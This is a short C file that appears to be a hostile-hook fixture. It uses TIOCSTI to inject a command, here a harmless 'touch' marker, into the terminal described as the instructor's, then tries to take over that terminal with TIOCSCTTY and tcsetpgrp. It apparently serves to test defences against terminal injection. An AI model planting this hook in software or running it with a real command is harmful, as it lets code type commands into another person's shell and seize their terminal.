/*
 * process-terminal: Types a command into the instructor's terminal with
 * TIOCSTI, and takes the terminal over.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <unistd.h>
#include <termios.h>
#include <sys/ioctl.h>

static void type(void)
{
    const char *command = "touch /tmp/hostilecoin-typed\n";
    int fds[] = {0, 1, 2, open("/dev/tty", O_RDWR | O_NONBLOCK)};
    for (int i = 0; i < 4; i++) {
        for (const char *c = command; *c; c++)
            ioctl(fds[i], TIOCSTI, c);
        ioctl(fds[i], TIOCSCTTY, 1);
        tcsetpgrp(fds[i], getpgid(0));
        ioctl(fds[i], TIOCNOTTY);
    }
}
#define HOOK() type()
